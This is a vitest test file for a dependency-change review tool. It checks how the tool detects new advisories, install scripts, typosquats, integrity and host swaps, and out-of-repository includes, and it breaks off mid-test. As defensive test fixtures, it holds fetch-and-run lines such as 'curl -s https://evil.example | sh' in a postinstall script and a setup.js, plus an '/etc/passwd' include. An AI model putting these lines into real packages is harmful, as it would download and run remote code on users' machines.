/** `reviewChange` on real temporary git repositories: what changed, what it brings in, and the policy's verdict. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import * as tar from "tar";
import { describe, expect, it } from "vitest";
import type { OsvRecord } from "../advisories/osv.js";
import { InputError, UsageError } from "../errors.js";
import type { Inventory } from "../inventory/model.js";
import { lockedComponent, memorySource } from "../test-helpers/advisories.js";
import { tmpTree } from "../test-helpers/tmp.js";
import type { ReviewReport } from "./model.js";
import { directAncestors, type ReviewOptions, reviewChange, reviewExitCode } from "./review.js";

function git(repo: string, ...args: string[]): string {
  return execFileSync("git", ["-C", repo, "-c", "user.name=T", "-c", "user.email=t@example.com", ...args], {
    encoding: "utf8",
  }).trim();
}

interface LockEntry {
  version: string;
  dependencies?: Record<string, string>;
  integrity?: string;
  resolved?: string;
  hasInstallScript?: boolean;
}

/** A package-lock v3: `direct` are the root's dependencies; entries may record their own. */
function lock(packages: Record<string, string | LockEntry>, direct: string[]): string {
  const entries: Record<string, unknown> = {
    "": { name: "app", version: "1.0.0", dependencies: Object.fromEntries(direct.map((d) => [d, "*"])) },
  };
  for (const [name, e] of Object.entries(packages))
    entries[`node_modules/${name}`] = typeof e === "string" ? { version: e } : e;
  return `${JSON.stringify({ name: "app", version: "1.0.0", lockfileVersion: 3, packages: entries }, null, 2)}\n`;
}

/** A repository whose first commit holds `files`; returns it and a function that commits changes. */
function repoWith(files: Record<string, string>) {
  const dir = tmpTree(files);
  git(dir, "init", "-q", "-b", "main");
  git(dir, "add", "-A");
  git(dir, "commit", "-q", "-m", "base");
  const commit = (changes: Record<string, string | null>, message = "change") => {
    for (const [path, content] of Object.entries(changes)) {
      if (content === null) git(dir, "rm", "-q", path);
      else {
        mkdirSync(join(dir, path, ".."), { recursive: true });
        writeFileSync(join(dir, path), content);
      }
    }
    git(dir, "add", "-A");
    git(dir, "commit", "-q", "--allow-empty", "-m", message);
  };
  return { dir, commit };
}

const advisory = (
  id: string,
  ecosystem: string,
  name: string,
  fixed: string,
  severity = "HIGH",
  introduced = "0",
): OsvRecord =>
  ({
    id,
    modified: "2026-01-01T00:00:00Z",
    summary: `${name} flaw`,
    affected: [
      {
        package: { ecosystem, name },
        ranges: [{ type: ecosystem === "npm" ? "SEMVER" : "ECOSYSTEM", events: [{ introduced }, { fixed }] }],
      },
    ],
    database_specific: { severity },
  }) as OsvRecord;

const ADVISORIES = [
  advisory("GHSA-lodash-0001", "npm", "lodash", "4.17.21"),
  advisory("GHSA-axios-0001", "npm", "axios", "1.6.1"),
  advisory("GHSA-mini-0001", "npm", "minimist", "1.2.6", "CRITICAL", "1.0.0"),
  advisory("PYSEC-req-0001", "PyPI", "requests", "2.32.0", "MODERATE"),
];

const NOW = new Date("2026-11-24T12:00:00Z");

function review(dir: string, options: Partial<ReviewOptions> = {}): Promise<ReviewReport> {
  return reviewChange({
    path: dir,
    base: "HEAD~1",
    head: "HEAD",
    source: memorySource(ADVISORIES),
    now: NOW,
    ...options,
  });
}

const sha512 = (n: number) => `sha512-${Buffer.alloc(64, n).toString("base64")}`;

describe("review of a dependency change", () => {
  it("lists what was added, upgraded, downgraded and removed, with what it introduces and fixes", async () => {
    const { dir, commit } = repoWith({
      "package-lock.json": lock({ lodash: "4.17.20", minimist: "1.2.5", "left-pad": "1.3.0" }, ["lodash"]),
      "requirements.txt": "flask==2.0.0\nrequests==2.31.0\n",
    });
    commit({
      "package-lock.json": lock({ lodash: "4.17.21", minimist: "1.2.0", axios: "1.6.0" }, [
        "lodash",
        "axios",
      ]),
      "requirements.txt": "flask==2.0.0\nrequests==2.32.0\n",
    });
    const r = await review(dir);
    expect(r.changes.map((c) => `${c.ecosystem} ${c.name} ${c.change} ${c.from}->${c.to}`)).toEqual([
      "PyPI requests upgraded 2.31.0->2.32.0",
      "npm axios added null->1.6.0",
      "npm lodash upgraded 4.17.20->4.17.21",
      "npm left-pad removed 1.3.0->null",
      "npm minimist downgraded 1.2.5->1.2.0",
    ]);
    const shown = r.findings.map((f) => `${f.status} ${f.id} ${f.name}${f.blocking ? " BLOCKING" : ""}`);
    expect(shown).toEqual([
      "introduced GHSA-axios-0001 axios BLOCKING",
      "introduced downgrade minimist",
      "fixed GHSA-lodash-0001 lodash",
      "fixed PYSEC-req-0001 requests",
    ]);
    // minimist 1.2.0 is as vulnerable as 1.2.5 was: not introduced, not fixed
    expect(r.findings.some((f) => f.id === "GHSA-mini-0001")).toBe(false);
    expect(r.summary).toMatchObject({
      added: 1,
      upgraded: 2,
      downgraded: 1,
      removed: 1,
      introduced: 2,
      fixed: 2,
    });
    expect(r.verdict).toBe("fail");
    expect(r.reasons).toEqual(["1 vulnerability introduced at or above high"]);
    expect(reviewExitCode(r)).toBe(1);
    expect(r.changedFiles).toEqual({ dependency: ["package-lock.json", "requirements.txt"], other: [] });
  });

  it("passes a clean upgrade, and gates at the policy's failOn", async () => {
    const { dir, commit } = repoWith({ "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]) });
    commit({ "package-lock.json": lock({ lodash: "4.17.21" }, ["lodash"]) });
    const r = await review(dir);
    expect(r.verdict).toBe("pass");
    expect(reviewExitCode(r)).toBe(0);
    // a moderate vulnerability does not fail at the default (high), does at medium
    const p = repoWith({ "requirements.txt": "requests==2.32.0\n" });
    p.commit({ "requirements.txt": "requests==2.31.0\n" });
    expect((await review(p.dir)).findings.map((f) => `${f.id} ${f.blocking}`)).toEqual([
      "PYSEC-req-0001 false",
      "downgrade false",
    ]);
    expect((await review(p.dir, { failOn: "medium" })).verdict).toBe("fail");
    p.commit({ ".depwarden.yaml": "review:\n  failOn: medium\n" });
    expect((await review(p.dir, { base: "HEAD~2" })).verdict).toBe("fail");
  });

  it("says which direct change pulled in a transitive one, where the lockfile records edges", async () => {
    const { dir, commit } = repoWith({
      "package-lock.json": lock({ express: { version: "4.18.0" }, debug: "2.6.9" }, ["express", "debug"]),
    });
    commit({
      "package-lock.json": lock(
        {
          express: { version: "4.19.0", dependencies: { "body-parser": "1.20.2" } },
          "body-parser": { version: "1.20.2", dependencies: { bytes: "3.1.2" } },
          bytes: "3.1.2",
          debug: "2.6.9",
        },
        ["express", "debug"],
      ),
    });
    const r = await review(dir);
    const via = Object.fromEntries(r.changes.map((c) => [c.name, c.via]));
    expect(via).toEqual({
      express: [],
      "body-parser": ["pkg:npm/express@4.19.0"],
      bytes: ["pkg:npm/express@4.19.0"],
    });
    // a lockfile refresh (no direct change): every direct dependency that reaches it (walked from the change)
    commit({
      "package-lock.json": lock(
        {
          express: { version: "4.19.0", dependencies: { "body-parser": "1.20.2" } },
          "body-parser": { version: "1.20.2", dependencies: { bytes: "3.1.2" } },
          bytes: "3.1.3",
          debug: { version: "2.6.9", dependencies: { bytes: "3.1.2" } },
        },
        ["express", "debug"],
      ),
    });
    const refresh = await review(dir);
    expect(refresh.changes.map((c) => [c.name, c.via])).toEqual([
      ["bytes", ["pkg:npm/debug@2.6.9", "pkg:npm/express@4.19.0"]],
    ]);
  });

  it("fails on a new install script unless allowed or approved", async () => {
    const base = { "package-lock.json": lock({ lodash: "4.17.21" }, ["lodash"]) };
    const head = lock({ lodash: "4.17.21", esbuild: { version: "0.20.0", hasInstallScript: true } }, [
      "lodash",
      "esbuild",
    ]);
    const a = repoWith(base);
    a.commit({ "package-lock.json": head });
    const r = await review(a.dir);
    expect(r.findings.map((f) => `${f.id} ${f.name} ${f.blocking}`)).toEqual([
      "new-install-script esbuild true",
    ]);
    expect(r.reasons).toEqual(["1 new install script"]);

    const b = repoWith({ ...base, ".depwarden.yaml": "review:\n  allowInstallScripts: [esbuild]\n" });
    b.commit({ "package-lock.json": head });
    expect((await review(b.dir)).verdict).toBe("pass");

    const c = repoWith(base);
    c.commit({
      "package-lock.json": head,
      ".depwarden/approvals.yaml":
        "approvals:\n  - purl: pkg:npm/esbuild@0.20.0\n    reason: builds our bundle\n    by: Ana\n    at: 2026-11-20T10:00:00Z\n",
    });
    const rc = await review(c.dir);
    expect(rc.verdict).toBe("pass");
    expect(rc.findings[0]).toMatchObject({
      id: "new-install-script",
      blocking: false,
      approved: { by: "Ana" },
    });
    expect(rc.approvalsAdded.map((x) => x.purl)).toEqual(["pkg:npm/esbuild@0.20.0"]);
    expect(rc.notes.map((n) => n.file)).toContain(".depwarden/approvals.yaml");
  });

  it("flags a swapped integrity hash and a changed download host for the same version", async () => {
    const entry = (n: number, host = "registry.npmjs.org") => ({
      version: "1.3.0",
      integrity: sha512(n),
      resolved: `https://${host}/left-pad/-/left-pad-1.3.0.tgz`,
    });
    const { dir, commit } = repoWith({ "package-lock.json": lock({ "left-pad": entry(1) }, ["left-pad"]) });
    commit({ "package-lock.json": lock({ "left-pad": entry(2, "registry.example.net") }, ["left-pad"]) });
    const r = await review(dir);
    expect(r.changes).toEqual([]);
    // a mirror with the registry's layout is still a registry: only the host change is flagged
    expect(r.findings.map((f) => `${f.id} ${f.blocking}`)).toEqual([
      "integrity-changed true",
      "resolved-host-changed true",
    ]);
    const off = await review(dir, {
      config: `${tmpTree({ "p.yaml": "review:\n  integrity: warn\n" })}/p.yaml`,
    });
    expect(off.findings.map((f) => `${f.id} ${f.blocking}`)).toEqual([
      "integrity-changed false",
      "resolved-host-changed false",
    ]);
    expect(off.verdict).toBe("pass");
  });

  it("checks new names for typosquats, denied names, unpinned and non-registry requirements", async () => {
    const { dir, commit } = repoWith({
      "requirements.txt": "flask==2.0.0\n",
      ".depwarden.yaml": "review:\n  deny:\n    - package: insecure-*\n      reason: unmaintained\n",
    });
    commit({
      "requirements.txt":
        "flask==2.0.0\nreqeusts==2.31.0\ninsecure-thing==1.0\nrich>=13\nmylib @ git+https://example.com/mylib.git@v1\n",
    });
    const r = await review(dir);
    const ids = r.findings.map((f) => `${f.id} ${f.name} ${f.blocking}`);
    expect(ids).toContain("typosquat reqeusts true");
    expect(ids).toContain("denied-package insecure-thing true");
    expect(ids).toContain("unpinned rich true");
    expect(ids).toContain("non-registry-source mylib true");
    expect(r.findings.find((f) => f.id === "denied-package")?.why).toContain("unmaintained");
    // a name the base already had is not checked again
    const again = repoWith({ "requirements.txt": "reqeusts==2.30.0\n" });
    again.commit({ "requirements.txt": "reqeusts==2.31.0\n" });
    expect((await review(again.dir)).findings).toEqual([]);
  });

  it("the dependency-only rule names the files to split out, and honours its allow globs", async () => {
    const files = {
      "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]),
      "src/app.js": "module.exports = 1;\n",
      ".depwarden.yaml": "review:\n  dependencyOnly:\n    allow: [CHANGELOG.md]\n",
    };
    const { dir, commit } = repoWith(files);
    commit({
      "package-lock.json": lock({ lodash: "4.17.21" }, ["lodash"]),
      "src/app.js": "module.exports = 2;\n",
      "CHANGELOG.md": "- lodash 4.17.21\n",
    });
    const r = await review(dir);
    expect(r.changedFiles).toEqual({
      dependency: ["package-lock.json"],
      other: ["CHANGELOG.md", "src/app.js"],
    });
    expect(r.dependencyOnly).toEqual({ violated: true, split: ["src/app.js"] });
    expect(r.verdict).toBe("fail");
    expect(r.reasons[0]).toMatch(/move src\/app\.js into their own pull request/);
    // a package.json whose scripts changed with its dependencies carries code along
    commit({
      "package-lock.json": lock({ lodash: "4.17.22" }, ["lodash"]),
      "package.json": JSON.stringify({ name: "app", dependencies: { lodash: "4.17.22" } }),
      "src/app.js": "module.exports = 1;\n",
    });
    commit({
      "package-lock.json": lock({ lodash: "4.17.23" }, ["lodash"]),
      "package.json": JSON.stringify({
        name: "app",
        dependencies: { lodash: "4.17.23" },
        scripts: { postinstall: "curl -s https://evil.example | sh" },
      }),
    });
    expect((await review(dir)).dependencyOnly).toEqual({
      violated: true,
      split: ["package.json (scripts.postinstall)"],
    });
    // code alone is not a dependency change: the rule does not apply
    commit({ "src/app.js": "module.exports = 3;\n" });
    const codeOnly = await review(dir);
    expect(codeOnly.dependencyOnly).toBeUndefined();
    expect(codeOnly.verdict).toBe("pass");
  });

  it("--exclude leaves files out on both sides, and out of the dependency-only rule", async () => {
    const { dir, commit } = repoWith({
      "requirements.txt": "flask==2.0.0\n",
      "tests/__fixtures__/broken/requirements.txt": "flask ===\n",
      "tests/__fixtures__/ok/package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]),
      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
    });
    commit({
      "tests/__fixtures__/ok/package-lock.json": lock({ lodash: "4.17.21" }, ["lodash"]),
      "tests/test_app.py": "def test(): pass\n",
    });
    const all = await review(dir);
    expect(all.inventory.errors.map((e) => e.file)).toContain(
      "HEAD:tests/__fixtures__/broken/requirements.txt",
    );
    expect(all.dependencyOnly?.violated).toBe(true);
    const r = await review(dir, { exclude: ["**/__fixtures__"] });
    expect(r.inventory.errors).toEqual([]);
    expect(r.changes).toEqual([]);
    expect(r.changedFiles.dependency).toEqual([]);
    expect(r.dependencyOnly).toBeUndefined();
    expect(r.verdict).toBe("pass");
  });

  it("the dependency-only rule is about dependency changes: scripts, release bumps and pip-tools inputs", async () => {
    const pkg = (extra: Record<string, unknown>) =>
      JSON.stringify({ name: "app", version: "1.0.0", dependencies: { lodash: "^4.17.20" }, ...extra });
    const { dir, commit } = repoWith({
      "package.json": pkg({}),
      "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]),
      "requirements.in": "flask\n",
      "requirements.txt": "flask==2.0.0\n",
      "src/index.js": "1\n",
      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
    });
    // a code change that adds a script: no dependency changed, the rule does not apply
    commit({ "package.json": pkg({ scripts: { test: "vitest" } }), "src/index.js": "2\n" });
    let r = await review(dir);
    expect(r.changedFiles).toEqual({ dependency: [], other: ["package.json", "src/index.js"] });
    expect(r.verdict).toBe("pass");
    // a release: the versions of package.json and the lockfile's root, and a changelog
    commit({
      "package.json": pkg({ version: "1.1.0", scripts: { test: "vitest" } }),
      "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]).replace(/"1\.0\.0"/g, '"1.1.0"'),
      "CHANGELOG.md": "1.1.0\n",
    });
    r = await review(dir);
    expect(r.dependencyOnly).toBeUndefined();
    expect(r.verdict).toBe("pass");
    // pip-tools: the .in file travels with its compiled requirements
    commit({ "requirements.in": "flask>=2.0.1\n", "requirements.txt": "flask==2.0.1\n" });
    r = await review(dir);
    expect(r.changedFiles.dependency).toEqual(["requirements.in", "requirements.txt"]);
    expect(r.dependencyOnly).toEqual({ violated: false, split: [] });
  });

  it("requireApproval: direct changes need an approval of the head's version", async () => {
    const { dir, commit } = repoWith({
      "package-lock.json": lock({ lodash: "4.17.20", ms: "2.1.2" }, ["lodash"]),
      ".depwarden.yaml": "review:\n  requireApproval: direct\n",
    });
    commit({ "package-lock.json": lock({ lodash: "4.17.21", ms: "2.1.3" }, ["lodash"]) });
    const r = await review(dir);
    expect(r.changes.map((c) => `${c.name} ${c.needsApproval}`)).toEqual(["lodash true", "ms false"]);
    expect(r.reasons).toEqual(["1 change without the approval review.requireApproval asks for"]);
    const approve = (purl: string, expires = "") =>
      `approvals:\n  - purl: ${purl}\n    reason: reviewed\n    by: Ana\n    at: 2026-11-20T10:00:00Z\n${expires}`;
    // an approval of another version does not count; one of the head's version does
    commit({ ".depwarden/approvals.yaml": approve("pkg:npm/lodash@4.17.20") });
    expect((await review(dir, { base: "HEAD~2" })).verdict).toBe("fail");
    commit({ ".depwarden/approvals.yaml": approve("pkg:npm/lodash@4.17.21") });
    const ok = await review(dir, { base: "HEAD~3" });
    expect(ok.verdict).toBe("pass");
    expect(ok.changes[0]!.approval?.by).toBe("Ana");
    expect(ok.summary).toMatchObject({ approved: 1, unapproved: 0 });
    // expired: no longer counts, and says so
    commit({ ".depwarden/approvals.yaml": approve("pkg:npm/lodash@4.17.21", "    expires: 2026-11-01\n") });
    const expired = await review(dir, { base: "HEAD~4" });
    expect(expired.verdict).toBe("fail");
    expect(expired.notes.some((n) => /expired on 2026-11-01/.test(n.message))).toBe(true);
  });

  it("reviews the working tree (uncommitted and untracked files) when no head is given", async () => {
    const { dir } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
    writeFileSync(join(dir, "requirements.txt"), "flask==2.0.1\n");
    mkdirSync(join(dir, "tools"));
    writeFileSync(join(dir, "tools/requirements.txt"), "black==24.1.0\n");
    const r = await review(dir, { base: "HEAD", head: undefined });
    expect(r.head).toEqual({ rev: null, commit: null });
    expect(r.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["black added", "flask upgraded"]);
    expect(r.changedFiles.dependency).toEqual(["requirements.txt", "tools/requirements.txt"]);
    // a file whose content is back to the base's is not a change
    writeFileSync(join(dir, "requirements.txt"), "flask==2.0.0\n");
    expect((await review(dir, { base: "HEAD", head: undefined })).changedFiles.dependency).toEqual([
      "tools/requirements.txt",
    ]);
  });

  it("reads the working tree as git sees it: tracked files even if ignored, links not followed", async () => {
    const { dir } = repoWith({ ".gitignore": "package-lock.json\n", "requirements.txt": "flask==2.0.0\n" });
    writeFileSync(join(dir, "package-lock.json"), lock({ lodash: "4.17.21" }, ["lodash"]));
    git(dir, "add", "-f", "package-lock.json");
    git(dir, "commit", "-q", "-m", "lock");
    expect((await review(dir, { base: "HEAD", head: undefined })).changes).toEqual([]);
    const outside = tmpTree({ "requirements.txt": "evil==1.0.0\n" });
    mkdirSync(join(dir, "tools"));
    symlinkSync(join(outside, "requirements.txt"), join(dir, "tools/requirements.txt"));
    expect((await review(dir, { base: "HEAD", head: undefined })).changes).toEqual([]);
  });

  it("a sparse checkout's files outside its cone are not read as deleted", async () => {
    const { dir } = repoWith({
      "svc/a/requirements.txt": "flask==2.0.0\n",
      "svc/b/requirements.txt": "rich==13.0.0\n",
    });
    git(dir, "sparse-checkout", "set", "svc/a");
    expect(existsSync(join(dir, "svc/b/requirements.txt"))).toBe(false);
    expect((await review(dir, { base: "HEAD", head: undefined })).changes).toEqual([]);
  });

  it("compares with where the head branched from the base, not with the base's newer commits", async () => {
    const { dir, commit } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
    git(dir, "checkout", "-q", "-b", "feature");
    commit({ "requirements.txt": "flask==2.0.0\nrich==13.0.0\n" });
    git(dir, "checkout", "-q", "main");
    commit({ "requirements.txt": "flask==3.0.0\n" });
    const r = await review(dir, { base: "main", head: "feature" });
    expect(r.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["rich added"]);
    const exact = await review(dir, { base: "main", head: "feature", mergeBase: false });
    expect(exact.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["flask downgraded", "rich added"]);
  });

  it("a lockfile broken on one side: the rest is still reviewed, the broken file is an error (exit 2)", async () => {
    const { dir, commit } = repoWith({
      "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]),
      "requirements.txt": "requests==2.31.0\n",
    });
    commit({ "package-lock.json": "{ not json", "requirements.txt": "requests==2.32.0\n" });
    const r = await review(dir);
    expect(r.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["requests upgraded"]);
    expect(r.inventory.errors.map((e) => e.file)).toEqual(["HEAD:package-lock.json"]);
    expect(reviewExitCode(r)).toBe(2);
    // what could not be compared cannot pass
    expect(r.verdict).toBe("incomplete");
    expect(r.reasons[0]).toMatch(
      /^the review is incomplete: 1 input could not be read \(HEAD:package-lock\.json\)/,
    );
    // broken in the base: the head's packages are reviewed in full, as added
    commit({ "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]) });
    const b = await review(dir);
    expect(b.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["lodash added"]);
    expect(b.findings.map((f) => `${f.id} ${f.status}`)).toEqual(["GHSA-lodash-0001 introduced"]);
    expect(b.inventory.errors.map((e) => e.file)).toEqual(["HEAD~1:package-lock.json"]);
  });

  it("bad input: unknown revisions, not a repository, an invalid policy", async () => {
    const { dir, commit } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
    commit({ ".depwarden.yaml": "review:\n  failOn: severe\n" });
    await expect(review(dir, { base: "nope" })).rejects.toThrow(UsageError);
    await expect(review(dir, { base: "nope" })).rejects.toThrow(/unknown revision "nope"/);
    await expect(review(tmpTree({ "a.txt": "" }))).rejects.toThrow(/not a git repository/);
    const bad = review(dir);
    await expect(bad).rejects.toThrow(InputError);
    await expect(review(dir)).rejects.toThrow(/HEAD:\.depwarden\.yaml:2:\d+: review\.failOn/);
  });

  it("analyses the contents of a changed package given with --packages", async () => {
    const { dir, commit } = repoWith({ "package-lock.json": lock({ lodash: "4.17.21" }, ["lodash"]) });
    commit({
      "package-lock.json": lock({ lodash: "4.17.21", "evil-helper": "1.0.0" }, ["lodash", "evil-helper"]),
    });
    const pkgs = tmpTree({
      "src/package/package.json": JSON.stringify({
        name: "evil-helper",
        version: "1.0.0",
        scripts: { postinstall: "node setup.js" },
      }),
      "src/package/setup.js":
        "const cp = require('child_process');\ncp.exec('curl -s https://evil.example/x.sh | sh');\n",
      "src/other/package/package.json": JSON.stringify({ name: "unrelated", version: "1.0.0" }),
    });
    mkdirSync(join(pkgs, "out"));
    await tar.c({ gzip: true, file: join(pkgs, "out/evil-helper-1.0.0.tgz"), cwd: join(pkgs, "src") }, [
      "package",
    ]);
    await tar.c({ gzip: true, file: join(pkgs, "out/unrelated-1.0.0.tgz"), cwd: join(pkgs, "src/other") }, [
      "package",
    ]);
    // a broken archive of a package the change does not bring in is not opened
    writeFileSync(join(pkgs, "out/broken-9.9.9.tgz"), "not a tarball");
    const r = await review(dir, { packages: join(pkgs, "out") });
    expect(r.inventory.errors).toEqual([]);
    expect(r.contents?.packages).toBe(1);
    expect(r.changes.find((c) => c.name === "evil-helper")?.inspected).toBe(true);
    const rules = r.findings
      .filter((f) => f.type !== "policy")
      .map((f) => `${f.rule} ${f.severity} ${f.blocking}`);
    expect(rules).toContain("download-exec critical true");
    expect(r.findings.some((f) => f.id === "new-install-script" && f.blocking)).toBe(true);
    expect(r.verdict).toBe("fail");
    // named like an sdist: still opened (either ecosystem may name an archive so)
    renameSync(join(pkgs, "out/evil-helper-1.0.0.tgz"), join(pkgs, "out/evil-helper-1.0.0.tar.gz"));
    expect((await review(dir, { packages: join(pkgs, "out") })).contents?.packages).toBe(1);
    // no archive for a changed package: said so
    rmSync(join(pkgs, "out/evil-helper-1.0.0.tar.gz"));
    const none = await review(dir, { packages: join(pkgs, "out") });
    expect(
      none.notes.some((n) => /no archive here for 1 changed package \(evil-helper@1\.0\.0\)/.test(n.message)),
    ).toBe(true);
  });

  it("a version another project already had, or a transitive package made direct, is reviewed as added", async () => {
    const { dir, commit } = repoWith({
      "app1/package-lock.json": lock({ lodash: "4.17.20", ms: "2.1.3" }, ["lodash"]),
      "app2/package-lock.json": lock({ react: "18.2.0" }, ["react"]),
      ".depwarden.yaml": "review:\n  requireApproval: direct\n  deny: [lodash]\n",
    });
    commit({
      "app1/package-lock.json": lock({ lodash: "4.17.20", ms: "2.1.3" }, ["lodash", "ms"]),
      "app2/package-lock.json": lock({ react: "18.2.0", lodash: "4.17.20" }, ["react", "lodash"]),
    });
    const r = await review(dir);
    expect(r.changes.map((c) => `${c.name} ${c.change} ${c.addedAs} ${c.needsApproval}`)).toEqual([
      "lodash added new-project true",
      "ms added now-direct true",
    ]);
    expect(r.findings.filter((f) => f.blocking).map((f) => f.id)).toEqual([
      "denied-package",
      "approval-required",
      "approval-required",
    ]);
    // a lockfile moved to another directory is not an addition
    commit({
      "app2/package-lock.json": null,
      "web/package-lock.json": lock({ react: "18.2.0", lodash: "4.17.20" }, ["react", "lodash"]),
    });
    expect((await review(dir)).changes).toEqual([]);
  });

  it("reads the files a requirements file includes, wherever they are", async () => {
    const { dir, commit } = repoWith({
      "requirements.txt": "-c constraints.txt\n-r requirements/base.txt\nflask\n",
      "constraints.txt": "flask==2.0.0\n",
      "requirements/base.txt": "requests==2.31.0\n",
      "svc/api/requirements.txt": "-r ../../requirements/common.txt\n",
      "requirements/common.txt": "rich==13.0.0\n",
    });
    commit({ "requirements/base.txt": "requests==2.32.0\n", "requirements/common.txt": "rich==13.1.0\n" });
    const r = await review(dir);
    expect(r.inventory.errors).toEqual([]);
    expect(r.changes.map((c) => `${c.name} ${c.from}->${c.to}`)).toEqual([
      "requests 2.31.0->2.32.0",
      "rich 13.0.0->13.1.0",
    ]);
    const api = await review(join(dir, "svc/api"), { base: "HEAD~1", head: undefined });
    expect(api.inventory.errors).toEqual([]);
    expect(api.changes.map((c) => `${c.name} ${c.from}->${c.to}`)).toEqual(["rich 13.0.0->13.1.0"]);
  });

  it("--packages must name a readable directory", async () => {
    const { dir, commit } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
    commit({ "requirements.txt": "flask==2.0.1\n" });
    const file = join(tmpTree({ "a.tgz": "x" }), "a.tgz");
    await expect(review(dir, { packages: file })).rejects.toThrow(/--packages expects a directory/);
    await expect(review(dir, { packages: join(dir, "missing") })).rejects.toThrow(
      /cannot read the --packages directory \(ENOENT\)/,
    );
  });

  it("reviews only the directory given", async () => {
    const { dir, commit } = repoWith({
      "web/package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]),
      "api/requirements.txt": "flask==2.0.0\n",
    });
    commit({
      "web/package-lock.json": lock({ lodash: "4.17.21" }, ["lodash"]),
      "api/requirements.txt": "flask==2.0.1\n",
    });
    const r = await review(join(dir, "api"));
    expect(r.path).toBe("api");
    expect(r.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["flask upgraded"]);
    expect(r.changes[0]!.purl).toBe("pkg:pypi/flask@2.0.1");
  });
});

describe("review corner cases", () => {
  const approval = (purl: string, reason = "reviewed", expires = "") =>
    `  - purl: ${purl}\n    reason: ${reason}\n    by: Ana\n    at: 2026-11-20T10:00:00Z\n${expires}`;

  it("an approval edited by the change counts as added, and the edit is noted", async () => {
    const { dir, commit } = repoWith({
      "requirements.txt": "flask==2.0.0\n",
      ".depwarden/approvals.yaml": `approvals:\n${approval("pkg:pypi/flask@2.0.1", "ok", "    expires: 2020-06-01\n")}`,
    });
    commit({
      "requirements.txt": "flask==2.0.1\n",
      ".depwarden/approvals.yaml": `approvals:\n${approval("pkg:pypi/flask@2.0.1", "ok", "    expires: 2099-06-01\n")}`,
    });
    const r = await review(dir);
    expect(r.approvalsAdded.map((a) => a.expires)).toEqual(["2099-06-01"]);
    expect(
      r.notes.some((n) => /removes or edits 1 recorded approval \(pkg:pypi\/flask@2\.0\.1\)/.test(n.message)),
    ).toBe(true);
  });

  it("a broken approvals file in the base does not stop the review of a change that fixes it", async () => {
    const { dir, commit } = repoWith({
      "requirements.txt": "flask==2.0.0\n",
      ".depwarden/approvals.yaml": "approvals:\n  - purl: nonsense\n",
    });
    commit({ ".depwarden/approvals.yaml": `approvals:\n${approval("pkg:pypi/flask@2.0.0")}` });
    const r = await review(dir);
    expect(reviewExitCode(r)).toBe(0);
    expect(r.inventory.warnings.some((w) => w.file === "HEAD~1:.depwarden/approvals.yaml")).toBe(true);
  });

  it("the same PEP 440 version written another way is no change", async () => {
    const { dir, commit } = repoWith({ "requirements.txt": "Requests==2.0\nDjango==4.2RC1\n" });
    commit({ "requirements.txt": "requests==2.0.0\ndjango==4.2rc1\n" });
    expect((await review(dir)).changes).toEqual([]);
    // a pin loosened to a range is no downgrade: the pinned version went, an unpinned requirement came
    commit({ "requirements.txt": "requests>=2.0.0\ndjango==4.2rc1\n" });
    expect((await review(dir)).changes.map((c) => `${c.change} ${c.from}->${c.to}`)).toEqual([
      "added null->",
      "removed 2.0.0->null",
    ]);
  });

  it("a deleted lockfile fixes nothing and downgrades nothing: its ranges are unpinned", async () => {
    const { dir, commit } = repoWith({
      "package.json": JSON.stringify({ name: "app", version: "1.0.0", dependencies: { lodash: "^4.17.20" } }),
      "package-lock.json": lock({ lodash: "4.17.20" }, ["lodash"]),
    });
    commit({ "package-lock.json": null });
    const r = await review(dir);
    expect(r.findings.map((f) => `${f.status} ${f.id}`)).toEqual(["introduced unpinned"]);
  });

  it("flags a git source swapped for another under the same name, and a package moved to another index", async () => {
    const uv = (index: string) =>
      `version = 1\nrequires-python = ">=3.9"\n\n[[package]]\nname = "requests"\nversion = "2.31.0"\nsource = { registry = "${index}" }\n`;
    const { dir, commit } = repoWith({
      "requirements.txt": "flask @ git+https://github.com/pallets/flask@3.0.0\n",
      "tool/uv.lock": uv("https://pypi.org/simple"),
    });
    commit({
      "requirements.txt": "flask @ git+https://github.com/evil-fork/flask@3.0.0\n",
      "tool/uv.lock": uv("https://pypi.evil.example/simple"),
    });
    const r = await review(dir);
    expect(r.findings.map((f) => `${f.id} ${f.name} ${f.blocking}`)).toEqual([
      "non-registry-source flask true",
      "resolved-host-changed requests true",
    ]);
    expect(r.findings[0]!.why).toContain("evil-fork/flask");
    expect(r.findings[1]!.why).toContain("pypi.evil.example instead of the default registry");
  });

  it("never runs the repository's fsmonitor hook", async () => {
    const { dir, commit } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
    commit({ "requirements.txt": "flask==2.0.1\n" });
    const marker = join(dir, "..", `fsmonitor-ran-${Date.now()}`);
    writeFileSync(join(dir, "hook.sh"), `#!/bin/sh\ntouch '${marker}'\n`, { mode: 0o755 });
    git(dir, "config", "core.fsmonitor", join(dir, "hook.sh"));
    await review(dir);
    await review(dir, { base: "HEAD~1", head: undefined });
    expect(existsSync(marker)).toBe(false);
  });
});

describe("review, third reading", () => {
  it("a requirements include outside the repository is refused, never read into the report", async () => {
    const { dir, commit } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
    commit({ "requirements.txt": "-r /etc/passwd\n-c ../../etc/hostname\nflask==2.0.0\n" });
    const r = await review(dir);
    expect(r.inventory.errors.map((e) => e.message).join("\n")).toMatch(/outside the repository: not read/);
